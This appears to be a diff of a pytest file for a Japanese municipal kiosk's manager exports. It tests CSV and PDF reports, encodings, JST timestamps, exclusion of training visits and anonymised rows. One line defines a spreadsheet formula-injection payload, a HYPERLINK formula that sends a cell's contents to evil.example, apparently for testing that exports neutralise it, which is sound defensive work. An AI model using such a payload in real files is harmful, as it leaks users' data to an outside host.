@@ -11,8 +11,8 @@ from zoneinfo import ZoneInfo
 import pytest
 
 from kiosk.staff.accounts import NOTE_REASONS
-from kiosk.statistics.report import SUMMARY_COLUMNS
-from kiosk.statistics.store import MANAGER_EXPORT_COLUMNS
+from kiosk.statistics.exports import event_columns
+from kiosk.statistics.report import summary_columns
 from tests.support.auth import AuthActions
 from tests.support.waiting import wait_recorded, wait_until
 
@@ -123,22 +123,29 @@ def test_manager_area_exports_and_lock_out(make_app):
 
     assert client.get("/manager/export/events.csv").status_code == 302  # not signed in yet
     assert auth.manager_login().status_code == 302
-    for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
-        events = client.get(f"/manager/export/events.csv?encoding={encoding}")
+    for encoding, codec, charset in (("utf-8", "utf-8-sig", "utf-8"), ("cp932", "cp932", "shift_jis")):
+        # a demo visit is training: left out unless the manager asks for it
+        assert client.get(f"/manager/export/events.csv?encoding={encoding}").data.decode(codec).count("\r\n") == 1
+        events = client.get(f"/manager/export/events.csv?encoding={encoding}&training=1")
         assert events.status_code == 200 and events.data.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8")
+        assert events.headers["Content-Type"] == f"text/csv; charset={charset}"
         header, *rows = csv.reader(io.StringIO(events.data.decode(codec), newline=""))
-        assert tuple(header) == MANAGER_EXPORT_COLUMNS
+        assert tuple(header) == event_columns("ja")
         (row,) = (dict(zip(header, r, strict=True)) for r in rows)
-        assert row["venue"] == "本庁舎" and row["outcome"] == "registered" and row["age_band"] == "75+"
-        assert row["pin_attempts"] == "1" and row["row_hash"] == terminal.stats.head()
+        assert row["設置場所"] == "本庁舎" and row["結果"] == "registered" and row["年齢区分"] == "75+"
+        assert row["暗証番号入力回数"] == "1" and row["行ハッシュ"] == terminal.stats.head()
+        assert row["研修(1=はい)"] == "1" and row["終了日時"].endswith("+09:00")  # JST, from the settings
 
-        summary = client.get(f"/manager/export/summary.csv?encoding={encoding}&month={month}")
+        summary = client.get(f"/manager/export/summary.csv?encoding={encoding}&month={month}&training=1")
         assert summary.status_code == 200 and month in summary.headers["Content-Disposition"]
+        assert summary.headers["Content-Type"] == f"text/csv; charset={charset}"
         header, *rows = csv.reader(io.StringIO(summary.data.decode(codec), newline=""))
-        assert tuple(header) == SUMMARY_COLUMNS
-        for expected in (["total", "sessions", "1"], ["total", "registered", "1"], ["by_venue", "本庁舎", "1"],
-                         ["by_age_band", "75+", "1"]):  # fmt: skip
+        assert tuple(header) == summary_columns("ja") == ("対象月", "区分", "項目", "値")
+        for expected in (["合計", "利用件数", "1"], ["合計", "新規登録", "1"], ["設置場所別", "本庁舎", "1"],
+                         ["年齢区分別", "75+", "1"]):  # fmt: skip
             assert [month, *expected] in rows, expected
+    english = client.get(f"/manager/export/summary.csv?month={month}&lang=en").data.decode("utf-8-sig")
+    assert english.startswith("month,section,item,value") and f"{month},total,sessions,0" in english
 
     auth.logout()
     assert client.get("/manager/export/summary.csv").status_code == 302
@@ -158,15 +165,21 @@ def test_manager_dashboard_report_and_csv(client, auth, demo, terminal, accounts
     wait_recorded(terminal)
     auth.manager_login()
     html = client.get("/manager/").get_data(as_text=True)
-    assert "data-sessions>1<" in html and 'data-chain="ok"' in html and "<svg" in html
-    report = client.get("/manager/report").get_data(as_text=True)
-    assert 'data-total="sessions">1<' in report
+    assert "data-sessions>0<" in html and 'data-training="left-out"' in html  # a demo visit is training
+    html = client.get("/manager/?training=1").get_data(as_text=True)
+    assert "data-sessions>1<" in html and "data-declined>1<" in html and 'data-chain="ok"' in html and "<svg" in html
+    assert "同意せず終了" in html and ">日本語</text>" in html  # the manager's words, not the stored codes
+    report = client.get("/manager/report?training=1").get_data(as_text=True)
+    assert "実績報告書" in report and "<td>同意せず終了</td><td>1</td>" in report and "作成者" in report
+    pdf = client.get("/manager/report.pdf?training=1")
+    assert pdf.mimetype == "application/pdf" and pdf.data.startswith(b"%PDF") and "jisseki-" in pdf.headers[
+        "Content-Disposition"]
     for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
-        body = client.get(f"/manager/export/events.csv?encoding={encoding}").data.decode(codec)
+        body = client.get(f"/manager/export/events.csv?encoding={encoding}&training=1").data.decode(codec)
         (row,) = list(csv.DictReader(io.StringIO(body)))
-        assert row["outcome"] == "declined" and row["row_hash"] == terminal.stats.head()
-        summary = client.get(f"/manager/export/summary.csv?encoding={encoding}").data.decode(codec)
-        assert "total,sessions,1" in summary
+        assert row["結果"] == "declined" and row["行ハッシュ"] == terminal.stats.head()
+        summary = client.get(f"/manager/export/summary.csv?encoding={encoding}&training=1").data.decode(codec)
+        assert "合計,利用件数,1" in summary
 
 
 FORMULA_VENUE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -277,11 +290,12 @@ def test_the_managers_events_csv_is_anonymous(make_app):
     client = app.test_client()
     AuthActions(client).manager_login()
     for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
-        body = client.get(f"/manager/export/events.csv?encoding={encoding}").data.decode(codec)
+        body = client.get(f"/manager/export/events.csv?encoding={encoding}&lang=en").data.decode(codec)
         assert "holder_key" not in body and "a1a1" not in body and "b2b2" not in body
         exported = list(csv.DictReader(io.StringIO(body, newline="")))
-        assert [r["started_at"] for r in exported] == [f"2026-11-05T0{i}:12+00:00" for i in range(3)]
-        assert [r["ended_at"] for r in exported] == [f"2026-11-05T0{i}:14+00:00" for i in range(3)]
+        # times to the minute, in the settings' time zone (JST), not UTC
+        assert [r["started_at"] for r in exported] == [f"2026-11-05T{9 + i:02d}:12+09:00" for i in range(3)]
+        assert [r["ended_at"] for r in exported] == [f"2026-11-05T{9 + i:02d}:14+09:00" for i in range(3)]
         assert [r["holder_visit"] for r in exported] == ["1", "1", "2"]  # the repeat visit is still counted
 
 
